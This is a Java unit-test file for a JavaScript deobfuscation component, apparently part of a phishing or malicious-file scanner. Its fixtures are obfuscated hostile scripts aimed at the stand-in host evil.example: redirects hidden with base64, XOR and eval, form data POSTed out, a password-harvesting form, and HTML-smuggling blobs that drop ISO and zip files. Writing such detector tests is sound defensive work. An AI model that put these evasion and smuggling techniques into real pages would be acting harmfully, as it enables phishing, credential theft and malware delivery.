package org.tocsin.readers.files.javascript;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FoldingTest {
    private static final String EVIL = "https://evil.example/a";

    private static ScriptFacts folded(String... scripts) {
        Folding folding = new Folding();
        int left = Folding.STEPS;
        for (String script : scripts) {
            left = folding.fold(script, left);
        }
        return folding.facts();
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    private static String codes(String text) {
        return String.join(",", text.chars().mapToObj(Integer::toString).toList());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "location = 'https://evil' + '.example/' + 'a';",
                "window.location.href = 'https://evil.example/a'",
                "window['loc' + 'ation']['re' + 'place']('https://evil.example/a')",
                "top.location.assign(`https://${'evil'}.example/a`)",
                "var a = ['a', '/', 'elpmaxe', '.', 'live//:sptth']; a.reverse();"
                        + "location.href = 'https:' + '//evil.example/' + a[4];",
                "document.location = 'a/elpmaxe.live//:sptth'.split('').reverse().join('')",
                "self.location = 'hZZps://evil.example/a'.replace(/Z/g, 't')",
                "location.replace('httpXYZs://evil.exXYZample/a'.split('XYZ').join(''))",
                "location = unescape('%68%74%74%70%73%3A%2F%2Fevil.example%2Fa')",
                "location = decodeURIComponent('https%3A%2F%2Fevil.example%2Fa')",
                "location = '\\x68\\x74\\x74\\x70\\x73://evil.example/a'",
                "var s = ''; for (var i = 0; i < 22; i++) s += 'https://evil.example/a'.charAt(i); location = s;",
                "const f = (x) => x + '/a'; window.open(f('https://evil.example'))",
                "function go(u) { if (navigator.userAgent.indexOf('bot') < 0) { location.href = u; } }"
                        + "setTimeout(function () { go('https://evil.example/a'); }, 500);",
                "document.addEventListener('click', () => { location = 'https://evil.example/a'; });",
                "window.onload = function () { location = 'https://evil.example/a'; }",
                "function never() { location = 'https://evil.example/a'; }",
                "var o = {u: 'https://evil.example/', 'v': 'a'}; location = o.u + o['v'];",
                "eval(\"location='https://evil.ex\" + \"ample/a'\")",
                "new Function('location = \"https://evil.example/a\"')()",
                "try { location = 'https://evil.example/a' } catch (e) {}",
                "<!--\nlocation = 'https://evil.example/a';\n//-->",
                "var x = 1; switch (x) { case 2: location='https://no.example/a'; break;"
                        + " case 1: location = 'https://evil.example/a'; break; default: location='https://no.example/b' }",
                "var p = 'https://evil.example/', q = q || 'a'; location = p.concat(q);",
            })
    void tells_where_a_script_goes(String script) {
        List<String> to = folded(script).findings().stream()
                .filter(finding -> finding.kind().equals("redirect"))
                .map(ScriptFacts.Finding::value)
                .toList();
        if (script.contains("a[4]")) {
            assertThat(to).singleElement().asString().startsWith("https://evil.example/");
        } else {
            assertThat(to).containsExactly(EVIL);
        }
    }

    @Test
    void undoes_base64_codes_and_sums_of_letters() {
        assertThat(folded("location = atob('" + base64(EVIL) + "')").findings())
                .contains(new ScriptFacts.Finding("redirect", EVIL));
        assertThat(folded("location = String.fromCharCode(" + codes(EVIL) + ")").findings())
                .contains(new ScriptFacts.Finding("redirect", EVIL));
        assertThat(folded("var c = [" + codes(EVIL) + "]; location = String.fromCharCode.apply(null, c)")
                        .findings())
                .contains(new ScriptFacts.Finding("redirect", EVIL));
        assertThat(folded("location = [" + codes(EVIL) + "].map(x => String.fromCharCode(x)).join('')")
                        .findings())
                .contains(new ScriptFacts.Finding("redirect", EVIL));
    }

    @Test
    void undoes_an_xor_with_a_key() {
        String key = "k3y";
        StringBuilder locked = new StringBuilder();
        for (int i = 0; i < EVIL.length(); i++) {
            locked.append((char) (EVIL.charAt(i) ^ key.charAt(i % key.length())));
        }
        String script = "function x(s, k) { var r = ''; for (var i = 0; i < s.length; i++) {"
                + " r += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); } return r; }"
                + "window.location.href = x(atob('" + base64(locked.toString()) + "'), 'k3y');";
        assertThat(folded(script).findings()).contains(new ScriptFacts.Finding("redirect", EVIL));
    }

    @Test
    void a_page_that_is_written_is_handed_back() {
        String page = "<form action='https://evil.example/p'><input type=password></form>";
        assertThat(folded("document.write(unescape('" + page.replace("<", "%3C").replace("'", "%27") + "'))")
                        .pages())
                .containsExactly(page);
        assertThat(folded("document.getElementById('x').innerHTML = atob('" + base64(page) + "')")
                        .pages())
                .containsExactly(page);
    }

    @Test
    void puts_a_smuggled_file_together_with_its_name() {
        String script = "var d = atob('" + base64("MZ made up \u00FF\u0000") + "');"
                + "var n = new Array(d.length); for (var i = 0; i < d.length; i++) { n[i] = d.charCodeAt(i); }"
                + "var b = new Blob([new Uint8Array(n)], {type: 'octet/stream'});"
                + "if (window.navigator.msSaveOrOpenBlob) { navigator.msSaveOrOpenBlob(b, 'Report' + '.iso'); } else {"
                + "var a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'Report.iso';"
                + "document.body.appendChild(a); a.click(); }";
        ScriptFacts facts = folded(script);
        assertThat(facts.files()).hasSize(1);
        assertThat(facts.files().getFirst().name()).isEqualTo("Report.iso");
        assertThat(facts.files().getFirst().bytes())
                .isEqualTo("MZ made up \u00FF\u0000".getBytes(StandardCharsets.ISO_8859_1));
        assertThat(facts.findings()).contains(new ScriptFacts.Finding("html-smuggling", "Report.iso"));
    }

    @Test
    void puts_together_what_newer_scripts_write() {
        String script = "const bytes = Uint8Array.from(atob('" + base64("PK made up") + "'), c => c.charCodeAt(0));"
                + "const link = document.createElement('a'); link.setAttribute('download', 'x.zip');"
                + "link.href = window.URL.createObjectURL(new Blob([bytes])); link.click();";
        ScriptFacts facts = folded(script);
        assertThat(facts.files()).hasSize(1);
        assertThat(new String(facts.files().getFirst().bytes(), StandardCharsets.US_ASCII))
                .isEqualTo("PK made up");
        assertThat(facts.files().getFirst().name()).isEqualTo("x.zip");
        String uri = "var a = document.createElement('a'); a.href = 'data:application/zip;base64,"
                + base64("PK made up, and longer than forty letters") + "'; a.download = 'y.zip'; a.click()";
        assertThat(folded(uri).files()).extracting(ScriptFacts.Smuggled::name).containsExactly("y.zip");
    }

    @Test
    void a_file_whose_content_comes_from_elsewhere_is_still_told() {
        assertThat(folded("fetch('https://evil.example/f').then(r => r.blob()).then(b => {"
                                + " var a = document.createElement('a'); a.href = URL.createObjectURL(b); })")
                        .findings())
                .extracting(ScriptFacts.Finding::kind)
                .contains("sends-to", "html-smuggling");
    }

    @Test
    void tells_where_a_script_sends_what_is_typed() {
        assertThat(folded("var x = new XMLHttpRequest(); x.open('POST', 'https://evil.example/' + 'post.php')")
                        .findings())
                .containsExactly(new ScriptFacts.Finding("sends-to", "https://evil.example/post.php"));
        assertThat(folded("$.ajax({url: 'https://evil.example/p', type: 'POST', success: function () {"
                                + " location = 'https://office.example/'; }})")
                        .findings())
                .containsExactly(
                        new ScriptFacts.Finding("sends-to", "https://evil.example/p"),
                        new ScriptFacts.Finding("redirect", "https://office.example/"));
    }

    @Test
    void variables_of_an_earlier_script_are_known() {
        assertThat(folded("var host = 'evil.example'", "location = 'https://' + host + '/a'")
                        .findings())
                .contains(new ScriptFacts.Finding("redirect", EVIL));
    }

    @Test
    void ordinary_scripts_give_nothing() {
        ScriptFacts facts = folded("var n = 0; function count() { n = n + 1; document.title = 'Read ' + n; }"
                + "for (var i = 0; i < 10; i++) { count(); } var b = atob('aGVsbG8='); console.log(b);");
        assertThat(facts.findings()).isEmpty();
        assertThat(facts.pages()).isEmpty();
        assertThat(facts.files()).isEmpty();
        assertThat(facts.isUnread()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "while (true) { }",
                "for (;;) { x = 'a' + x; }",
                "function f() { f(); f(); } f();",
                "var s = 'aaaaaaaa'; while (true) { s = s + s; }",
                "var a = []; while (true) { a.push(a); }",
                "var a = []; a.push(a); location = a.join('') + a;",
                "eval(\"var e = 'eval(e)'; eval(e)\")",
            })
    void a_script_without_end_ends(String script) {
        ScriptFacts facts = folded(script);
        assertThat(facts.findings())
                .allSatisfy(finding -> assertThat(finding.kind()).isEqualTo("evaluates"));
    }

    @Test
    void a_loop_that_never_ends_is_said_to_be_cut() {
        assertThat(folded("while (true) { }").isExhausted()).isTrue();
    }

    @Test
    void deep_and_long_scripts_do_not_break_it() {
        assertThat(folded("x = " + "(".repeat(20_000) + "1" + ")".repeat(20_000))
                        .findings())
                .isEmpty();
        assertThat(folded("x = " + "[".repeat(20_000)).findings()).isEmpty();
        assertThat(folded("x = " + "!".repeat(100_000) + "1").findings()).isEmpty();
        StringBuilder sum = new StringBuilder("location = ''");
        for (int i = 0; i < EVIL.length(); i++) {
            sum.append(" + '").append(EVIL.charAt(i)).append("'");
        }
        sum.append(" + ''".repeat(20_000));
        assertThat(folded(sum.toString()).findings()).contains(new ScriptFacts.Finding("redirect", EVIL));
    }

    @Test
    void of_a_script_that_cannot_be_parsed_the_literals_are_looked_at() {
        ScriptFacts facts = folded("@@ class { # } ((( var x = '" + base64("<a href='https://evil.example/a'>") + "'");
        assertThat(facts.isUnread()).isTrue();
        assertThat(facts.decoded()).containsExactly("<a href='https://evil.example/a'>");
    }

    @Test
    void a_megabyte_decoded_letter_by_letter_is_done_within_the_bound() {
        String payload = base64("x".repeat(700_000));
        ScriptFacts facts = folded("var d = atob('" + payload + "'), r = new Uint8Array(d.length);"
                + "for (var i = 0; i < d.length; i++) { r[i] = d.charCodeAt(i) ^ 1; }"
                + "saveAs(new Blob([r]), 'big.bin');");
        assertThat(facts.isExhausted()).isFalse();
        assertThat(facts.files()).hasSize(1);
        assertThat(facts.files().getFirst().bytes()).hasSize(700_000).contains('y');
    }
}
